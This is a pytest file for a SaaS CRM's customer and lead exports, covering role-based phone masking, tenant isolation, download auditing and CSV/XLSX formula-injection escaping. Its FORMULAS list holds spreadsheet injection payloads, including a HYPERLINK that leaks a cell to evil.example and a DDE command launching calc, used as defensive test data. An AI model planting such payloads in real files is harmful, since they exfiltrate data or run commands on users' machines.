"""Exports of customers and leads: built by the `reports.run` job (a real arq
worker here) with the requester's visibility and phone masking, downloaded as
CSV/XLSX by the requester only, every download audited; another tenant and a
colleague get nothing."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from saas.models import AuditEntry, User
from saas.settings import Settings
from saas.tenancy.rls import system_transaction
from saas.tenancy.roles import Role
from tests.conftest import Api
from tests.factories import gid, make_group, make_lead, make_store, make_user, pk
from tests.reports.test_report_runs import _burst

EXPORT = """mutation($input: ExportInput!) {{ {field}(input: $input) {{ __typename
  ... on Export {{ id status kind }} ... on ValidationErrors {{ errors {{ path message }} }} }} }}"""
STATUS = """query($id: ID!) { export(id: $id) { status progress rowCount csvUrl xlsxUrl error } }"""


@pytest.fixture
async def floor(api: Api, settings: Settings) -> dict:  # type: ignore[type-arg]
    group = await make_group("EAST")
    store = await make_store(group, "SH-1")
    other_store = await make_store(group, "SH-2")
    ann = await make_user("ann@east.test", group=group, role=Role.CONSULTANT, store=store)
    bob = await make_user("bob@east.test", group=group, role=Role.CONSULTANT, store=store)
    await make_user("boss@east.test", group=group, role=Role.SHOWROOM_MANAGER, store=store)
    await make_user("exec@east.test", group=group, role=Role.GROUP_EXECUTIVE)
    await make_user("admin@east.test", group=group, role=Role.GROUP_ADMIN)
    await make_lead(ann, store, name="Wang Fang", phone="13800138000")
    await make_lead(ann, store, name="Li Lei", phone="13900139000")
    await make_lead(bob, store, name="Zhao Min", phone="13700137000")
    carl = await make_user("carl@east.test", group=group, role=Role.CONSULTANT, store=other_store)
    await make_lead(carl, other_store, name="Sun Li", phone="13600136000")
    return {"group": group, "store": store, "other_store": other_store}


async def _export(api: Api, token: str, field: str, **input: object) -> dict:  # type: ignore[type-arg]
    """Request an export, let a real worker build it, return its status."""
    requested = (await api.gql(EXPORT.format(field=field), {"input": input}, token))[field]
    assert requested["__typename"] == "Export" and requested["status"] == "queued", requested
    await api.client._transport.app.state.jobs.drain()  # type: ignore[attr-defined]
    await _burst(api.client._transport.app.state.settings)  # type: ignore[attr-defined]
    done = (await api.gql(STATUS, {"id": requested["id"]}, token))["export"]
    assert done["status"] == "done", done
    return {"id": requested["id"], **done}


async def _csv(api: Api, token: str, url: str) -> list[dict[str, str]]:
    """The CSV's rows by their (English) column labels."""
    response = await api.client.get(url, headers={"authorization": f"Bearer {token}"})
    assert response.status_code == 200, response.text
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))


async def test_phones_are_masked_as_the_role_requires(api: Api, floor: dict) -> None:  # type: ignore[type-arg]
    ann = await api.login("ann@east.test")
    mine = await _export(api, ann, "exportCustomers")
    rows = await _csv(api, ann, mine["csvUrl"])
    # A consultant sees her own customers only, with their full numbers.
    assert sorted((r["Customer"], r["Phone"]) for r in rows) == [
        ("Li Lei", "+8613900139000"),
        ("Wang Fang", "+8613800138000"),
    ]
    boss = await api.login("boss@east.test")
    store = await _export(api, boss, "exportCustomers", storeId=gid(floor["store"]))
    assert store["rowCount"] == 3
    assert sorted(r["Phone"] for r in await _csv(api, boss, store["csvUrl"])) == [
        "137****7000",
        "138****8000",
        "139****9000",
    ]
    head_office = await api.login("exec@east.test")
    leads = await _export(api, head_office, "exportLeads")
    book = load_workbook(io.BytesIO((await api.client.get(
        leads["xlsxUrl"], headers={"authorization": f"Bearer {head_office}"})).content))  # fmt: skip
    sheet = book["Leads"]
    header = [c.value for c in sheet[3]]
    phones = sorted(
        row[header.index("Phone")] for row in sheet.iter_rows(min_row=4, values_only=True)
    )
    assert phones == ["136****6000", "137****7000", "138****8000", "139****9000"]


async def test_a_consultant_exports_only_own_leads(api: Api, floor: dict) -> None:  # type: ignore[type-arg]
    bob = await api.login("bob@east.test")
    done = await _export(api, bob, "exportLeads")
    rows = await _csv(api, bob, done["csvUrl"])
    assert [(r["Customer"], r["Store"], r["Consultant"]) for r in rows] == [
        ("Zhao Min", "SH-1", "Bob")
    ]
    assert rows[0]["Phone"] == "+8613700137000" and rows[0]["Grade"] == "N"
    # A store he does not work in is refused, not silently empty (as a store
    # that does not exist: he may not see it).
    refused = (
        await api.gql(
            EXPORT.format(field="exportLeads"),
            {"input": {"storeId": gid(floor["other_store"])}},
            bob,
        )
    )["exportLeads"]
    assert refused["__typename"] == "ValidationErrors"
    assert refused["errors"] == [
        {
            "path": ["input", "storeId"],
            "message": f"store {floor['other_store'].id} does not exist in your dealer group",
        }
    ]


async def test_only_the_requester_downloads_and_every_download_is_audited(
    api: Api,
    floor: dict,  # type: ignore[type-arg]
) -> None:
    ann = await api.login("ann@east.test")
    done = await _export(api, ann, "exportCustomers")
    boss = await api.login("boss@east.test")
    # A colleague (even a manager who reads reports) cannot open Ann's export.
    assert (await api.gql(STATUS, {"id": done["id"]}, boss))["export"] is None
    assert (await api.gql("query($id: ID!) { reportRun(id: $id) { status } }",
                          {"id": done["id"]}, boss))["reportRun"] is None  # fmt: skip
    response = await api.client.get(done["csvUrl"], headers={"authorization": f"Bearer {boss}"})
    assert response.status_code == 404

    other = await make_group("WEST")
    west_store = await make_store(other, "BJ-1")
    await make_user("boss@west.test", group=other, role=Role.SHOWROOM_MANAGER, store=west_store)
    west = await api.login("boss@west.test")
    assert (await api.gql(STATUS, {"id": done["id"]}, west))["export"] is None
    response = await api.client.get(done["xlsxUrl"], headers={"authorization": f"Bearer {west}"})
    assert response.status_code == 404
    # West's own export holds none of East's rows.
    assert (await _export(api, west, "exportCustomers"))["rowCount"] == 0

    await _csv(api, ann, done["csvUrl"])
    await api.client.get(done["xlsxUrl"], headers={"authorization": f"Bearer {ann}"})
    async with system_transaction():
        downloads = await AuditEntry.filter(operation="download_export").order_by("id")
        requested = await AuditEntry.filter(operation="exportCustomers").count()
    assert [(d.outcome, d.object_id, d.tenant_id) for d in downloads] == [
        ("csv", str(pk(done["id"])), floor["store"].tenant_id),
        ("xlsx", str(pk(done["id"])), floor["store"].tenant_id),
    ]
    assert requested == 2  # Ann's and West's requests


async def test_who_may_export(api: Api, floor: dict) -> None:  # type: ignore[type-arg]
    admin = await api.login("admin@east.test")  # IT admin: users and settings, no CRM data
    errors = await api.errors(EXPORT.format(field="exportCustomers"), {"input": {}}, admin)
    assert "customer:export" in errors[0]["message"]


# Names a customer or colleague could give that a spreadsheet would run as a formula.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&B2,"Click for invoice")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "@SUM(1)",
    "-2+3",
    "＝1+1",  # full-width, as typed with a Chinese input method
]


def _starts_a_formula(text: str) -> bool:
    return text[:1] in "=+-@＝＋－＠\t\r" and not text.lstrip("+-").isdigit()


async def test_exported_text_never_becomes_a_formula(api: Api, floor: dict) -> None:  # type: ignore[type-arg]
    """Customer names (and a colleague's name) that would be formulas come out
    of CSV and XLSX exports as text with a leading ', never as formula cells."""
    cara = await make_user(
        "cara@east.test", group=floor["group"], role=Role.CONSULTANT, store=floor["store"]
    )
    async with system_transaction():
        await User.filter(id=cara.id).update(name="@owner")
    for n, name in enumerate(FORMULAS):
        await make_lead(cara, floor["store"], name=name, phone=f"1350013500{n}")
    token = await api.login("cara@east.test")
    for field in ("exportCustomers", "exportLeads"):
        done = await _export(api, token, field)
        rows = await _csv(api, token, done["csvUrl"])
        assert sorted(r["Customer"] for r in rows) == sorted("'" + f for f in FORMULAS), field
        assert {r["Consultant"] for r in rows} == {"'@owner"}
        assert [v for r in rows for v in r.values() if v and _starts_a_formula(v)] == [], field
        assert all(r["Phone"].startswith("+86135") for r in rows)  # numbers stay as they were

        response = await api.client.get(
            done["xlsxUrl"], headers={"authorization": f"Bearer {token}"}
        )
        sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
        cells = [c for row in sheet.iter_rows() for c in row if c.value is not None]
        assert [c.coordinate for c in cells if c.data_type == "f"] == [], field
        header = [c.value for c in sheet[3]]
        for column in ("Customer", "Consultant"):
            values = [row[header.index(column)] for row in sheet.iter_rows(min_row=4)]
            assert all(c.data_type == "s" for c in values)
        names = sorted(row[header.index("Customer")].value for row in sheet.iter_rows(min_row=4))
        assert names == sorted("'" + f for f in FORMULAS), field
